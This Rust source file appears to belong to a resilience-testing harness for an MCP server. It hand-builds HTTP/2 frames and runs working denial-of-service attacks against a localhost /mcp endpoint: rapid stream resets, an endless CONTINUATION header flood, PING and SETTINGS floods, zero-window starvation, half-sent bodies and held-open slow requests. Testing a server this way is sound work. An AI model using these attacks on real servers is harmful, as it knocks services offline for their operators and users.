//! Attacks on HTTP/2 connections, frame by frame (RFC 9113).

use std::future::pending;
use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::timeout;

use super::attacker::{Attacker, pause};
use crate::problem::Result;
use crate::raw::{call, modern};
use crate::route::ByteStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

/// Flags of frames.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The window of a stream for a client that reads, and for one that reads nothing.
const OPEN_WINDOW: u32 = 1 << 20;
const CLOSED_WINDOW: u32 = 0;

/// Requests that are opened on a connection: no more than the server allows at a time.
const STREAMS: u32 = 100;

/// Requests that wait on a connection, nearly as many as the server allows.
const WAITING_STREAMS: u32 = 120;

/// Requests for large answers on a connection.
const LARGE_STREAMS: u32 = 16;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Returns the id of a client's request.
fn stream_id(number: u32) -> u32 {
    2 * number + 1
}

/// Returns a block of headers: a POST to the endpoint with headers, each with its end.
fn header_block(headers: &str) -> Vec<u8> {
    // `:method: POST` and `:scheme: http` of the static table, and its names `:path` and `:authority`.
    let mut block = vec![0x83, 0x86];
    let mut literal = |name: &[u8], value: &[u8]| {
        block.extend(name);
        block.push(u8::try_from(value.len()).unwrap_or_default());
        block.extend(value);
    };
    literal(&[0x04], b"/mcp");
    literal(&[0x01], b"localhost");
    let accept =
        "content-type: application/json\r\naccept: application/json, text/event-stream\r\n";
    for line in accept.lines().chain(headers.lines()) {
        let (name, value) = line.split_once(": ").unwrap_or((line, ""));
        let mut named = vec![0, u8::try_from(name.len()).unwrap_or_default()];
        named.extend(name.bytes());
        literal(&named, value.as_bytes());
    }
    block
}

/// Returns the frames of a request, whose body ends or not.
fn request(stream: u32, params: Value, body_ends: bool) -> Vec<u8> {
    let (headers, body) = modern("tools/call", params);
    let mut frames = frame(HEADERS, END_HEADERS, stream, &header_block(&headers));
    let flags = if body_ends { END_STREAM } else { 0 };
    frames.extend(frame(DATA, flags, stream, body.as_bytes()));
    frames
}

/// Connects and names the window of its streams.
async fn connect(it: &Attacker, window: u32) -> Result<Box<dyn ByteStream>> {
    let mut stream = it.route.connect_http2().await?;
    let mut settings = vec![0, 4];
    settings.extend(window.to_be_bytes());
    let hello = [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &settings)].concat();
    stream.write_all(&hello).await?;
    Ok(stream)
}

/// Reads for a while.
async fn read_for(stream: &mut dyn ByteStream, time: Duration) {
    let mut bytes = vec![0; 64 << 10];
    let reading = async { while matches!(stream.read(&mut bytes).await, Ok(1..)) {} };
    let _ = timeout(time, reading).await;
}

/// Opens as many slow requests as it may, and leaves.
pub(super) async fn streams(it: Attacker) -> Result {
    loop {
        let mut stream = connect(&it, OPEN_WINDOW).await?;
        for number in 0..STREAMS {
            let slow = call("slow", json!({"ms": 5000}));
            let _ = stream
                .write_all(&request(stream_id(number), slow, true))
                .await;
        }
        read_for(&mut *stream, Duration::from_secs(1)).await;
    }
}

/// Says that it speaks HTTP/2, and nothing more.
pub(super) async fn silent(it: Attacker) -> Result {
    let mut stream = connect(&it, OPEN_WINDOW).await?;
    read_for(&mut *stream, Duration::from_secs(600)).await;
    Ok(())
}

/// Opens as many small requests that wait as it may, and holds them.
pub(super) async fn waiting_calls(it: Attacker) -> Result {
    let mut stream = connect(&it, OPEN_WINDOW).await?;
    for number in 0..WAITING_STREAMS {
        let slow = call("slow", json!({"ms": 60_000}));
        let _ = stream
            .write_all(&request(stream_id(number), slow, true))
            .await;
    }
    read_for(&mut *stream, Duration::from_secs(600)).await;
    Ok(())
}

/// Opens requests and resets them at once, until the connection ends.
pub(super) async fn resets(it: Attacker) -> Result {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    loop {
        let mut stream = connect(&it, OPEN_WINDOW).await?;
        for number in 0..1 << 20 {
            let id = stream_id(number);
            let slow = call("slow", json!({"ms": 5000}));
            let mut frames = request(id, slow, true);
            frames.extend(frame(RST_STREAM, 0, id, &CANCEL));
            if stream.write_all(&frames).await.is_err() {
                break;
            }
        }
        pause(50).await;
    }
}

/// Asks for large answers and lets nothing of them be sent.
pub(super) async fn closed_windows(it: Attacker) -> Result {
    let mut stream = connect(&it, CLOSED_WINDOW).await?;
    for number in 0..LARGE_STREAMS {
        let big = call("big", json!({"bytes": 4_000_000}));
        let _ = stream
            .write_all(&request(stream_id(number), big, true))
            .await;
    }
    pending().await
}

/// Sends as many small requests as it may, and lets nothing of their answers be sent.
pub(super) async fn unread_streams(it: Attacker) -> Result {
    let mut stream = connect(&it, CLOSED_WINDOW).await?;
    for number in 0..STREAMS {
        let echo = call("echo", json!({"message": "m", "number": 1}));
        let _ = stream
            .write_all(&request(stream_id(number), echo, true))
            .await;
    }
    pending().await
}

/// Begins bodies, as much as the windows allow, and ends none.
pub(super) async fn half_bodies(it: Attacker) -> Result {
    loop {
        let mut stream = connect(&it, OPEN_WINDOW).await?;
        let padding = [b' '; 16 << 10];
        for number in 0..4 {
            let id = stream_id(number);
            let echo = call("echo", json!({"message": "m", "number": 1}));
            let _ = stream.write_all(&request(id, echo, false)).await;
            // Less than the window of a connection at its beginning.
            for _ in 0..if number == 0 { 3 } else { 0 } {
                let data = frame(DATA, 0, id, &padding);
                let _ = stream.write_all(&data).await;
            }
        }
        read_for(&mut *stream, Duration::from_secs(60)).await;
    }
}

/// Sends headers without an end.
pub(super) async fn endless_headers(it: Attacker) -> Result {
    loop {
        let mut stream = connect(&it, OPEN_WINDOW).await?;
        let begun = frame(HEADERS, 0, 1, &header_block(""));
        let _ = stream.write_all(&begun).await;
        // One header after the other: `x: ` and 100 bytes.
        let mut header = vec![0, 1, b'x', 100];
        header.extend([b'x'; 100]);
        let more = frame(CONTINUATION, 0, 1, &header.repeat(100));
        while stream.write_all(&more).await.is_ok() {}
        pause(50).await;
    }
}

/// Sends pings and settings, and reads none of their acknowledgements.
pub(super) async fn pings(it: Attacker) -> Result {
    loop {
        let mut stream = connect(&it, OPEN_WINDOW).await?;
        let mut frames = frame(PING, 0, 0, &[0; 8]);
        frames.extend(frame(SETTINGS, 0, 0, &[]));
        let frames = frames.repeat(100);
        while stream.write_all(&frames).await.is_ok() {}
        pause(50).await;
    }
}
